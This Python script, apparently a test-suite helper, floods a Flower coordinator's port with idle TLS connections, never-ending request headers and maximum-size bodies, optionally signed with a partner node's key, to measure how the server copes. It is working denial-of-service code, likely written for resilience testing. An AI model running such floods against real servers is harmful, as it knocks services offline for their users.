"""What an outsider can throw at a coordinator's ports, and a partner with its node key. A process of its own.

    idle       a connection that says nothing: every other one after a TLS handshake
    half-open  TLS, and a request's head that never ends
    body       a request with the largest body that its path allows, sent as fast as it is taken

A connection that is dropped comes again after ``PAUSE`` seconds. Ends when its standard input does, and
prints what it had.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import os
import resource
import ssl
import sys
from base64 import b64encode
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from flwr.proto.message_pb2 import PushObjectRequest
from flwr.proto.node_pb2 import Node

PAUSE = 5.0
PATIENCE = 15.0
PIECE = 256 << 10
HEAD = b"POST /v1/fleet/push-object HTTP/1.1\r\nhost: x\r\ncontent-type: application/protobuf\r\n"


@dataclass
class Flood:
    """One attack. ``key``: a node key in OpenSSH's private form, to be let in with; none for an outsider.
    ``node``: whose it is."""

    host: str
    port: int
    idle: int = 0
    half_open: int = 0
    bodies: int = 0
    size: int = 0
    key: Path | None = None
    node: int = 0
    count: dict[str, int] = field(default_factory=dict)
    content: bytes = b""

    async def run(self, stop: asyncio.Event) -> None:
        """Until ``stop``."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        tasks = [
            *(asyncio.create_task(self._again(self._idle, context, n)) for n in range(self.idle)),
            *(
                asyncio.create_task(self._again(self._half, context, n))
                for n in range(self.half_open)
            ),
            *(asyncio.create_task(self._again(self._body, context, n)) for n in range(self.bodies)),
        ]
        await stop.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    def _seen(self, what: str) -> None:
        self.count[what] = self.count.get(what, 0) + 1

    async def _again(self, attack: object, context: ssl.SSLContext, number: int) -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError, EOFError):
                await attack(context, number)  # type: ignore[operator]
            await asyncio.sleep(PAUSE)

    async def _open(
        self, context: ssl.SSLContext | None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        async with asyncio.timeout(PATIENCE):
            return await asyncio.open_connection(self.host, self.port, ssl=context)

    async def _idle(self, context: ssl.SSLContext, number: int) -> None:
        reader, writer = await self._open(context if number % 2 else None)
        self._seen("idle")
        try:
            await reader.read(1)
        finally:
            writer.transport.abort()

    async def _half(self, context: ssl.SSLContext, number: int) -> None:
        reader, writer = await self._open(context)
        self._seen("half-open")
        try:
            writer.write(HEAD)
            await reader.read(1)
        finally:
            writer.transport.abort()

    async def _body(self, context: ssl.SSLContext, number: int) -> None:
        reader, writer = await self._open(context)
        self._seen("bodies")
        content = memoryview(self._content())
        try:
            answer = asyncio.create_task(reader.readline())
            head = b"content-length: %d\r\n%s\r\n" % (self.size, self._signed())
            writer.write(HEAD + head)
            for start in range(0, self.size, PIECE):
                if answer.done() or writer.is_closing():
                    break
                writer.write(content[start : start + PIECE])
                await writer.drain()
                await asyncio.sleep(0)  # to hear that it was cut
            async with asyncio.timeout(PATIENCE):
                line = (await answer).split()
            self._seen(line[1].decode() if len(line) > 1 else "dropped")
        except (OSError, TimeoutError):
            self._seen("dropped")
            raise
        finally:
            writer.transport.abort()

    def _content(self) -> bytes:
        """An object that nobody announced, as long as is allowed. The same for all."""
        if len(self.content) != self.size:
            frame = PushObjectRequest(
                node=Node(node_id=self.node), run_id=1, object_id="0" * 64, object_content=bytes(1)
            )
            for _ in range(4):  # the length of a length
                missing = self.size - frame.ByteSize()
                frame.object_content = bytes(len(frame.object_content) + missing)
            self.content = frame.SerializeToString()
            self.size = len(self.content)
        return self.content

    def _signed(self) -> bytes:
        """Flower's headers of a node, for now."""
        if self.key is None:
            return b""
        key = serialization.load_ssh_private_key(self.key.read_bytes(), None)
        if not isinstance(key, ec.EllipticCurvePrivateKey):
            raise TypeError("the node key is an elliptic-curve key")
        public = key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        stamp = datetime.now(UTC).isoformat().encode()
        mark = key.sign(stamp, ec.ECDSA(hashes.SHA256()))
        return b"flwr-public-key: %s\r\nflwr-signature: %s\r\nflwr-timestamp: %s\r\n" % (
            b64encode(public), b64encode(mark), stamp,
        )  # fmt: skip


async def _main(floods: list[Flood]) -> None:
    stop, loop = asyncio.Event(), asyncio.get_running_loop()
    loop.run_in_executor(None, lambda: (sys.stdin.read(), loop.call_soon_threadsafe(stop.set)))
    loop.set_exception_handler(lambda *_: None)
    await asyncio.gather(*(flood.run(stop) for flood in floods))
    sys.stdout.write(json.dumps([flood.count for flood in floods]) + "\n")


def main() -> None:
    """Arguments: the floods as JSON."""
    os.nice(19)  # an attacker has processors of his own
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    floods = [
        Flood(**{**given, "key": Path(given["key"]) if given.get("key") else None})
        for given in json.loads(sys.argv[1])
    ]
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    asyncio.run(_main(floods))


if __name__ == "__main__":
    main()
